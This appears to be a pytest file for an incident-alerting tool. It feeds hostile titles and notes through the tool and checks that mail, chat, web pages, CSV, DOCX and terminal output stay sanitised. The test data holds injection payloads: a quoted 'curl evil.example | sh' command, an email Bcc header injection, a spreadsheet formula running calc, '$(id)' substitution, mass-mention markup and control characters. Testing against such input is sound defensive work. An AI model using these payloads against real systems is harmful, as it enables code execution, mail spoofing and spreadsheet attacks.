"""Hostile words from the source to everywhere an alert is told: mail, chat, page, file, report, table, terminal."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP

import pytest

from caifeng import casework, pipeline
from caifeng.errors import UsageError
from caifeng.models import Act, Deed
from tests.hostile import BODIES, TITLES
from tests.response_desk import MINUTE, NOW, House, house

CURL = '"; curl evil.example | sh #'
MENTION = '@所有人 <at user_id="all">全体</at> 澜川空气炸锅召回'
MORE = {
    MENTION: "门店员工称库存已封存，一名顾客此前被热油烫伤。",
    "澜川冰箱漏电\r\nBcc: victim@example.org\r\n\r\n正文": "电工检查插座时触电，手掌烫伤，房东报警。",
    f"澜川烤箱玻璃炸裂{CURL}": "玻璃渣飞溅，母亲抱孩子躲避时烫伤小腿。",
    "澜川风扇\x0b\x1b[31m起火\ud800": "宿舍夜里冒烟，学生扑火时烫伤，舍管赶到。",
}
WORDS = {**dict(zip(TITLES, BODIES, strict=True)), **MORE}


@dataclass
class Told:
    """Where the words arrived."""

    house: House
    alerts: int
    docx: list[bytes]
    reports: list[str]


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
    with house(tmp_path_factory.mktemp("texts") / "desk") as made:
        made.look(NOW)
        made.brief(NOW + MINUTE)
        made.hear_of_all()
        for title, body in WORDS.items():
            made.feed.add(title, body, NOW + MINUTE)
        look = made.look(NOW + 5 * MINUTE)
        made.send(NOW + 5 * MINUTE)
        desk = pipeline.open_desk(made.workspace)
        for text in (CURL, MENTION, "澜\u202e川", "=cmd|' /C calc'!A1"):
            note = f"{text} $(id) `id`"
            deed = Act(deed=Deed.FOUND, by="黎航", at=NOW + 6 * MINUTE, title=text, note=note, owner="售后部")
            casework.open_case(made.workspace, desk, deed, NOW + 6 * MINUTE)
        made.look(NOW + 7 * MINUTE)
        cases = sorted(path.stem for path in (made.root / "incidents").glob("*.yml"))
        docx, reports = [], []
        for id_ in cases[:2] + cases[-4:]:
            path = made.root / f"{id_}.docx"
            made.answer("report", id_, "--docx", str(path))
            docx.append(path.read_bytes())
            reports.append(made.answer("incident", "show", id_))
        yield Told(made, len(look.analysis.alerts), docx, reports)


def test_every_hostile_title_is_alerted_and_opened(told: Told) -> None:
    assert told.alerts >= 10
    assert len(list((told.house.root / "incidents").glob("*.yml"))) == told.alerts + 4
    assert told.house.json("check")["problems"] == []


def test_no_mail_has_a_header_of_strangers_or_anything_active(told: Told) -> None:
    assert 1 <= len(told.house.post.received) <= 10
    for _, content in told.house.post.received:
        mail = message_from_bytes(content, policy=SMTP)
        assert isinstance(mail, EmailMessage)
        assert mail["Bcc"] is None
        assert [len(mail.get_all(name) or ()) for name in ("Subject", "To")] == [1, 1]
        assert not re.search(r"[\u202a-\u202e\x00-\x08]", mail["Subject"])
        html = mail.get_body(("html",))
        assert html is not None
        assert not re.search(r"<script|href=.javascript:|onerror=", html.get_content(), re.IGNORECASE)
        assert len(content) < 100_000


def test_no_chat_message_calls_everybody_or_grows_without_end(told: Told) -> None:
    texts = told.house.chats[0].received
    assert 1 <= len(texts) <= 5
    for text in texts:
        assert not re.search(r"@(?:所有人|all\b)|<at\b|\u202e|\x00|\x1b", text)
        assert "](javascript:" not in text
        assert len(text.encode()) < 30_000


def test_pages_run_nothing_and_have_a_size(told: Told) -> None:
    public = told.house.workspace.public
    pages = [path for part in ("alerts", "incidents", "duty", "handling") for path in (public / part).rglob("*.html")]
    assert len(pages) > 10
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert not re.search(r"href=.?javascript:", text, re.IGNORECASE)
        assert "\u202e" not in text
        assert len(text) < 1_000_000, page


def test_no_cell_of_a_table_is_a_formula(told: Told) -> None:
    tables = list(told.house.workspace.public.rglob("*.csv"))
    assert tables
    for table in tables:
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"))):
            assert not any(cell.startswith(("=", "@", "+", "\t", "\r")) for cell in row), (table, row)


def test_incident_files_hold_the_words_as_words(told: Told) -> None:
    incidents, problems = told.house.workspace.incidents(pipeline.open_desk(told.house.workspace)).load()
    assert problems == ()
    assert CURL in {incident.title for incident in incidents}
    for path in (told.house.root / "incidents").glob("*.yml"):
        assert path.stat().st_size < 100_000
        assert "\u202e" not in path.read_text(encoding="utf-8").split("log:")[0]


def test_documents_are_whole_and_hold_no_control_characters(told: Told) -> None:
    for data in told.docx:
        with zipfile.ZipFile(io.BytesIO(data)) as whole:
            assert whole.testzip() is None
            text = whole.read("word/document.xml").decode()
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
        assert len(text) < 2_000_000


def test_terminals_and_programs_get_no_control_characters(told: Told) -> None:
    for text in told.reports:
        assert not re.search(r"[\x00-\x08\x0b-\x1f\u202a-\u202e]", text)
    for command in (
        ("incident", "list"),
        ("alerts",),
        ("handling",),
        ("cases",),
        ("drill", "--list"),
        ("risk", "--list"),
    ):
        told.house.json(*command)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\u202a-\u202e]", told.house.answer(*command))


def test_an_owner_without_an_address_is_named_by_the_check_and_the_supervisor_is_told(told: Told) -> None:
    made = told.house
    desk = pipeline.open_desk(made.workspace)
    id_ = min(path.stem for path in (made.root / "incidents").glob("*.yml"))
    at = NOW + 8 * MINUTE
    try:
        casework.do(made.workspace, desk, id_, Act(deed=Deed.ASSIGNED, by="黎航", at=at, owner="外包客服"), at)
    except UsageError as error:
        assert "外包客服" in str(error)
        return
    assert any(id_ in hint and "外包客服" in hint for hint in made.json("check")["hints"])
